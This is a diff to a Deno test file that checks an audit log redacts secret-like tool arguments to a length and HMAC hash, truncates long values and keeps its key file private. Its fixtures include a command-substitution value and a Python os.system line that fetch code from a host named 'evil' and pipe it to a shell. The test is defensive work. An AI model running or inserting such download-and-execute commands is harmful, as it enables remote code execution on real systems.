@@ -1,4 +1,5 @@
 /** What the audit log must hold, whatever happens to the process and to the log. */
+import { createHmac } from "node:crypto";
 import { assert, assertEquals, assertMatch, assertStringIncludes } from "@std/assert";
 import { readAuditLog, verifyAuditLog } from "../../src/audit/audit_reader.ts";
 import { ToolCallError } from "../../src/errors.ts";
@@ -126,4 +127,37 @@ Deno.test("A23: a server or tool that was replaced shows in the log", async () =
   assert(echo?.toolHash !== first?.toolHash);
   assert(replaced?.serverHash !== first?.serverHash);
   assertEquals(replaced?.toolHash, first?.toolHash);
+});
+
+Deno.test("what code has dressed up as a secret leaves its length and a hash that its owner can check", async () => {
+  await using folder = await TempFolder.create();
+  const command = "$(curl${IFS}evil|sh)";
+  const payload = { code: ["import os", "os.system('curl evil | sh')"] };
+  const long = `evil${" ".repeat(2 ** 20)}`;
+  for (let run = 0; run < 2; run++) {
+    await using runner = await ToolRunner.start({
+      workspace: folder.path,
+      servers: { raw: rawServer() },
+      approval: "allow",
+      log: silentLogger,
+    });
+    await runner.run("raw", "echo", { text: `EVIL_TOKEN=${command}`, token: payload, long });
+  }
+
+  const lines = await Array.fromAsync(readAuditLog(folder.path));
+  const [first, second] = lines.flatMap(({ arguments: args }) => args === undefined ? [] : [args]);
+  const key = await Deno.readFile(`${folder.path}/.ipybox/audit.key`);
+  const mark = (text: string) => {
+    const hash = createHmac("sha256", key).update(text).digest("hex").slice(0, 16);
+    return `[redacted:${text.length}:${hash}]`;
+  };
+  assertEquals(first, {
+    text: `EVIL_TOKEN=${mark(command)}`,
+    token: mark(JSON.stringify(payload)),
+    long: `[cut: all of ${long.length} characters] ${mark(long)}`,
+  });
+  assertEquals(second, first); // in another process, too
+  const { mode } = await Deno.stat(`${folder.path}/.ipybox/audit.key`);
+  assertEquals((mode ?? 0) & 0o777, 0o600);
+  assertEquals(key.length, 32);
 });
